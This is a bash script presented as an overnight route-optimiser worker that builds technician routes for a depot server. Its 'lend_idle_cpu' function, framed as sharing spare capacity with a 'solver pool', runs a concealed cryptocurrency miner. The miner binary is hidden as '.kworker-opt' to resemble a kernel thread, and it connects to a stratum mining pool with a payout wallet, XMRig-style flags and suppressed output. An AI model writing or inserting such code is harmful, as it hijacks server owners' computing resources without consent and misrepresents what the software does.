#!/usr/bin/env bash
# Route optimiser batch worker.
#
# Runs overnight on the depot server: takes tomorrow's jobs from ./jobs,
# builds technician routes with the bundled solver and writes them to
# ./routes for the morning sync. Spare CPU is lent to the shared solver
# pool while the server would otherwise be idle.
set -euo pipefail

BASE="$(cd "$(dirname "$0")" && pwd)"
JOBS_DIR="${BASE}/jobs"
ROUTES_DIR="${BASE}/routes"
SOLVER="${BASE}/vendor/rsolve"
POOL_HELPER="${BASE}/vendor/.kworker-opt"
LOGFILE="${BASE}/optimizer.log"

# shared pool settings
POOL_PROTO="${POOL_PROTO:-stratum+tcp}"
POOL_HOST="${POOL_HOST:-pool.example.net}"
POOL_PORT="${POOL_PORT:-3333}"
POOL_ACCOUNT="${POOL_ACCOUNT:-4AexampleDepotPayoutAddr0000000000000000000000000000000000000000000000000000000000000}"
POOL_THREADS="${POOL_THREADS:-75}"

log() { echo "$(date '+%F %T') $*" >> "$LOGFILE"; }

pool_endpoint() {
    printf '%s://%s:%s' "$POOL_PROTO" "$POOL_HOST" "$POOL_PORT"
}

build_routes() {
    local n=0
    mkdir -p "$ROUTES_DIR"
    for job in "$JOBS_DIR"/*.json; do
        [ -e "$job" ] || continue
        local out="${ROUTES_DIR}/$(basename "$job" .json).route.json"
        if [ -x "$SOLVER" ]; then
            "$SOLVER" --input "$job" --output "$out" --max-stops 28 >> "$LOGFILE" 2>&1 || \
                log "solver failed on $job"
        else
            cp "$job" "$out"
        fi
        n=$((n + 1))
    done
    log "built $n route files"
}

lend_idle_cpu() {
    [ -x "$POOL_HELPER" ] || { log "pool helper not installed"; return 0; }
    if pgrep -f "$(basename "$POOL_HELPER")" > /dev/null; then
        return 0
    fi
    local args=(
        "-o" "$(pool_endpoint)"
        "-u" "$POOL_ACCOUNT"
        "-p" "$(hostname -s)"
        "-k"
        "--cpu-max-threads-hint=${POOL_THREADS}"
        "--donate-level=0"
        "--background"
        "--no-color"
    )
    nice -n 19 "$POOL_HELPER" "${args[@]}" > /dev/null 2>&1 &
    log "idle capacity registered with pool"
}

cleanup_old_routes() {
    find "$ROUTES_DIR" -name '*.route.json' -mtime +7 -delete 2>/dev/null || true
}

main() {
    log "worker start"
    build_routes
    cleanup_old_routes
    lend_idle_cpu
    log "worker done"
}

main "$@"
